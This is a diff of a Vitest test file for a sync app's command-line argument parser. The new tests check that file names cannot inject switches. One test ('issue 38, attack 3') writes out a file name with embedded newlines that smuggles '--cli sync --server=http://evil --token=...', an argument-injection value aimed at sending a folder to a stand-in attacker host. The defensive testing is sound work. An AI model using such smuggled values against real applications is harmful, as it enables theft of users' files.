@@ -1,7 +1,7 @@
 import { describe, expect, it } from 'vitest';
 import type { ActivityEvent, SyncPair, SyncPairStatus } from '../../src/shared/app-api';
 import type { OthersEvent } from '../../src/shared/others-activity';
-import { isHandover, parseAppArgs } from '../../src/main/args';
+import { firstArgIndex, isHandover, parseAppArgs } from '../../src/main/args';
 import { NoticeBatcher, summarize, type Notice } from '../../src/main/platform/notify-batch';
 import { trayMenu, type TrayMenuItem } from '../../src/main/platform/tray-menu';
 import {
@@ -345,30 +345,51 @@ describe('app arguments', () => {
     expect(
       parseAppArgs(['/usr/bin/electron', '.', '--copy-link=rel/y.txt'], '/home/a').copyLink,
     ).toEqual(['/home/a/rel/y.txt']);
-    // A file manager passes several; Chromium may append switches of its own.
+    // A file manager passes several, after `--`: everything after --copy-link is an item.
     expect(
       parseAppArgs(
-        [
-          'app',
-          '--copy-link',
-          '/a b/1.txt',
-          'two.txt',
-          '--allow-file-access-from-files',
-          '--hidden',
-        ],
+        ['app', '--hidden', '--copy-link', '--', '/a b/1.txt', 'two.txt', '--hidden', '--'],
         '/w',
       ),
-    ).toEqual({ copyLink: ['/a b/1.txt', '/w/two.txt'], hidden: true, cli: null });
+    ).toEqual({
+      copyLink: ['/a b/1.txt', '/w/two.txt', '/w/--hidden', '/w/--'],
+      hidden: true,
+      cli: null,
+    });
     expect(parseAppArgs(['app', '--copy-link'], '/').copyLink).toEqual([]);
+    // Nautilus and Nemo pass URIs: decoded, a newline in a name kept in the one item.
+    expect(
+      parseAppArgs(['app', '--copy-link', '--', 'file:///home/a/x%0A--cli%0Async%20it.txt'], '/w')
+        .copyLink,
+    ).toEqual(['/home/a/x\n--cli\nsync it.txt']);
   });
 
-  it('hands everything after --cli to the CLI', () => {
+  it('hands everything after --cli to the CLI, only when --cli comes first', () => {
     expect(parseAppArgs(['app', '--cli', 'link', '--copy', 'x'], '/').cli).toEqual([
       'link',
       '--copy',
       'x',
     ]);
     expect(parseAppArgs(['app'], '/').cli).toBeNull();
+    // Unpackaged (`electron .`), the app's path comes before the first argument.
+    expect(parseAppArgs(['electron', '.', '--cli', 'status'], '/', 2).cli).toEqual(['status']);
+    expect(firstArgIndex(true)).toBe(2);
+    expect(firstArgIndex(undefined)).toBe(1);
+  });
+
+  it('never takes a switch from an item name (issue 38, attack 3)', () => {
+    // A name split on its newlines by a file manager: ten arguments, --cli in the middle.
+    const name =
+      'invoice.pdf\n--cli\nsync\n--server=http://evil\n--token=t\n--workspace=1\n--dir=.\n--once';
+    const split = ['/opt/ws', '--copy-link', ...`/home/a/${name}`.split('\n')];
+    const args = parseAppArgs(split, '/home/a');
+    expect(args.cli).toBeNull();
+    expect(args.hidden).toBe(false);
+    expect(args.copyLink).toHaveLength(8);
+    expect(args.copyLink.every((p) => p.startsWith('/home/a/'))).toBe(true);
+    // --cli after anything else is no switch either.
+    expect(parseAppArgs(['/opt/ws', '--hidden', '--cli', 'sync'], '/').cli).toBeNull();
+    expect(parseAppArgs(['/opt/ws', 'x', '--cli', 'sync'], '/').cli).toBeNull();
   });
 
   it('accepts only a well-formed handover from a second instance', () => {
